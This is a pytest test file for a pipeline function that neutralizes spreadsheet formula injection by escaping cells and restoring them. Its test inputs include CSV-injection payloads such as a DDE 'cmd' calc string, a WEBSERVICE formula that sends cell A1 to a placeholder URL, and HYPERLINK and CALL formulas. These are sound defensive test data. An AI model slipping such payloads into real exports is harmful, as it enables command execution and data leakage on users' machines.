"""Cells that a spreadsheet would take for formulas."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.cells import neutral, restored, unnested


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "- HYPERLINK(\"x\")", "-cmd|x", "- a!b",
        "- x = y", "@a b", "'=1", "''=1", "- WEBSERVICE (\"http://a?\"&A1)", "- HYPERLINK (\"http://a\",\"b\")", "- CALL (\"a\",\"b\")",
        "- 'x'!A1", "- 'x'!name", "- '[http://a/b.xls]S'!A1", "- A1&B1", "- A1", "+ A1 B2", "- A1:B2", "- A:A", "- 2+3", "- 2 - 3", "- 2-3", "- a -b", "- a- b",
        "+ $A$1", "- 5", "- 2,5", "- R1C1", "- 1e5", "- a_b", "- a/b", "- a*b", "- a^b", "- 5%", "- {a}", "- [a]", "- <a>", "- a#b", "- a\\b", "- The lead (Ana Ruiz)",
        "\u00a0".join(("+", "f(x)")), "＝1+1", "＋1", "－1", "＠SUM(A1)", "＝cmd|x", "'＝1", "\n=1", "\n@x", "\r\n=1", "- a\n=1", "- Ａ１", "- a（b）", "- a＋b",
    ],
)  # fmt: skip
def test_a_formula_becomes_text(text: str) -> None:
    table = pd.DataFrame({"text": [text, None], "n": [-1.5, 2.0]})
    assert neutral(table)["text"].tolist()[0] == f"'{text}"
    pd.testing.assert_frame_equal(restored(neutral(table)), table)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "---",
        "a = b",
        "- The lead, Ana Ruiz, is stiff.",
        "+ A fine score",
        "@filmfan22",
        "'tis",
        "“=”",
        "- A well-made film: “stiff”, it's said — but what a lead!",
        "- 2 of the 12 songs; all in 1999…",
        "- Ünï codé 日本",
        "- Stiff",
        "- Wow!",
        "–1",
        "− 1",
        "－－",
        "a\n=1",
    ],
)
def test_other_text_stays(text: str) -> None:
    table = pd.DataFrame({"text": [text], "n": [-1.5]})
    pd.testing.assert_frame_equal(neutral(table), table)


@given(st.lists(st.text(st.sampled_from("'=+-@\t\r\na1 (|!:＝_é"), max_size=6)))
def test_what_was_there_is_found_again(texts: list[str]) -> None:
    table = pd.DataFrame({"text": texts}, dtype=object)
    pd.testing.assert_frame_equal(restored(neutral(table)), table)


def test_names_of_columns_are_cells_too() -> None:
    table = pd.DataFrame({"=1": ["a"]})
    assert list(neutral(table).columns) == ["'=1"]
    assert list(restored(neutral(table)).columns) == ["=1"]


def test_whole_numbers_beside_empty_cells_stay_whole() -> None:
    table = pd.DataFrame({"n": pd.Series([1234567890123456789, None, 7], dtype=object)})
    for found in (neutral(table), restored(table), table.apply(unnested)):
        assert found["n"].tolist() == [1234567890123456789, None, 7]
